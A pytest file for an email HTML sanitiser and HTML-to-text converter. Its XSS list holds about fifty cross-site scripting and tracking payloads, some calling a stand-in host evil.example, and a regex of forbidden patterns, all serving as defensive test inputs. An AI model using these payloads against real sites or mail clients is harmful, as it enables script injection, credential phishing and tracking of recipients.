"""Email HTML: what the sanitiser lets through (formatting, web and mail links, embedded images) and what
it never does, however it is spelt; and the text made from HTML."""

import re

import pytest

from clientdesk.mail.html import removed, sanitize, to_text

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<div onfocus="alert(1)" tabindex="1" autofocus>x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/relative/path">x</a>',
    '<a href="https://ok.example/" target="_blank" ping="https://evil.example/">x</a>',
    '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    '<button formaction="https://evil.example/">x</button><select><option>a</option></select><textarea>t</textarea>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { background: url(https://evil.example/t.png) }</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(https://evil.example/t.png)">x</p>',
    '<div style="background-image: url(&quot;https://evil.example/t.png&quot;)">x</div>',
    '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<img src="https://evil.example/track.png">',
    '<img src="http://evil.example/track.png">',
    '<img src="//evil.example/track.png">',
    '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/t.png">x</td></tr></table>',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="x"></audio>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<p id="x" class="y" data-x="1" aria-label="z">x</p>',
]
# Once sanitised, none of these may be anywhere in the HTML.
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<object|<embed|<form|<input|<button|<select|<textarea|<svg|<math|<base|<meta|<link|"
    r"<video|<audio|<template|\son[a-z]+=|javascript:|vbscript:|data:text|data:image/svg|\sstyle=|url\(|srcset|"
    r"background=|https?://evil|//evil|src=\"x\"|/relative|target=|ping=|\sid=|\sclass=|data-x|<!--",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", XSS)
def test_nothing_that_runs_loads_or_submits_survives(attack):
    cleaned = sanitize(attack)
    assert not FORBIDDEN.search(cleaned), cleaned
    assert sanitize(cleaned) == cleaned  # what is left is stable


@pytest.mark.parametrize("attack", XSS)
def test_what_is_removed_is_named_for_the_author(attack):
    if sanitize(attack) != attack:
        assert removed(attack) or attack.startswith("<!--")


def test_formatting_web_and_mail_links_and_embedded_images_survive():
    body = (
        "<h2>Invoice</h2><p>Hello <strong>Grace</strong>, <em>thank you</em>.</p>"
        '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol><blockquote>Quoted</blockquote>'
        '<table><thead><tr><th scope="col">Item</th></tr></thead>'
        '<tbody><tr><td colspan="2">Hosting</td></tr></tbody></table>'
        '<p><a href="https://desk.example.com/i/1" title="Open">Pay</a> '
        '<a href="mailto:billing@example.com">Mail us</a></p>'
        f'<p><img src="{PNG}" alt="Logo" width="10" height="10"></p><pre><code>code</code></pre><hr>'
    )
    cleaned = sanitize(body)
    for kept in [
        "<h2>Invoice</h2>",
        "<strong>Grace</strong>",
        "<em>thank you</em>",
        "<li>One</li>",
        '<ol start="3">',
        "<blockquote>Quoted</blockquote>",
        '<th scope="col">Item</th>',
        '<td colspan="2">Hosting</td>',
        '<a href="https://desk.example.com/i/1" title="Open" rel="noopener noreferrer nofollow">Pay</a>',
        '<a href="mailto:billing@example.com" rel="noopener noreferrer nofollow">Mail us</a>',
        f'<img src="{PNG}" alt="Logo" width="10" height="10">',
        "<pre><code>code</code></pre>",
        "<hr>",
    ]:
        assert kept in cleaned, kept


def test_text_and_entities_are_kept_as_written():
    assert sanitize("<p>Fish &amp; chips &lt;b&gt; 5 &gt; 3</p>") == "<p>Fish &amp; chips &lt;b&gt; 5 &gt; 3</p>"
    assert sanitize("   ") == sanitize("") == ""


def test_removed_names_what_goes():
    assert removed(
        '<p onclick="x" style="color: red">a<script>1</script><a href="javascript:alert(1)">x</a>'
        '<img src="https://t.example/x.png"></p>'
    ) == [
        "the onclick attribute of <p>",
        "the style attribute of <p>",
        "<script>",
        "a link that is not http(s) or mailto (javascript:alert(1))",
        "an image that is not embedded (https://t.example/x.png)",
    ]
    assert removed("<p>Fine <a href='https://x.example/'>link</a></p>") == []


# --- Text made from HTML ------------------------------------------------------------------------------


def test_paragraphs_and_headings_are_apart_and_line_breaks_kept():
    assert to_text("<h1>Title</h1><p>One\n   two</p><p>Line<br>next<br/>last</p><div>Block</div>") == (
        "Title\n\nOne two\n\nLine\nnext\nlast\n\nBlock"
    )


def test_lists_are_bulleted_or_numbered_and_nested_lists_indented():
    html = "<p>Items:</p><ul><li>One</li><li>Two<ul><li>Two A</li></ul></li></ul><ol><li>First</li><li>Second</li></ol>"
    assert to_text(html) == "Items:\n\n- One\n- Two\n   - Two A\n\n1. First\n2. Second"


def test_links_are_followed_by_their_address_unless_the_text_is_the_address():
    html = (
        '<p>Pay <a href="https://desk.example.com/i/1">here</a>, see https://x.example/ or '
        '<a href="https://x.example/">https://x.example/</a>, '
        'write to <a href="mailto:a@example.com?subject=Hi">us</a> '
        'or <a href="mailto:a@example.com">a@example.com</a>. <a href="javascript:x">Not this</a>.</p>'
    )
    assert to_text(html) == (
        "Pay here (https://desk.example.com/i/1), see https://x.example/ or https://x.example/, write to us "
        "(a@example.com) or a@example.com. Not this."
    )


def test_entities_are_decoded_exactly_once():
    assert to_text("<p>Fish &amp; chips, &lt;b&gt;, &amp;lt;, &quot;q&quot;, caf&eacute;, &#8364;5, a&nbsp;b</p>") == (
        'Fish & chips, <b>, &lt;, "q", café, €5, a b'
    )


def test_quotes_pre_tables_images_and_rules_read_sensibly():
    html = (
        "<p>Before</p><blockquote><p>Quoted</p><p>Twice</p></blockquote>"
        "<pre>  indented\n    more\n\nend</pre><hr>"
        "<table><tr><th>Item</th><th>Price</th></tr><tr><td>Hosting</td><td>$12</td></tr></table>"
        f'<p><img src="{PNG}" alt="Logo"> after</p>'
    )
    assert to_text(html) == (
        "Before\n\n> Quoted\n>\n> Twice\n\n  indented\n    more\n\nend\n\n---\n\nItem Price\nHosting $12\n\nLogo after"
    )


def test_scripts_and_styles_give_no_text():
    assert to_text("<style>p { color: red }</style><p>Hi</p><script>alert(1)</script>") == "Hi"
    assert to_text("") == ""
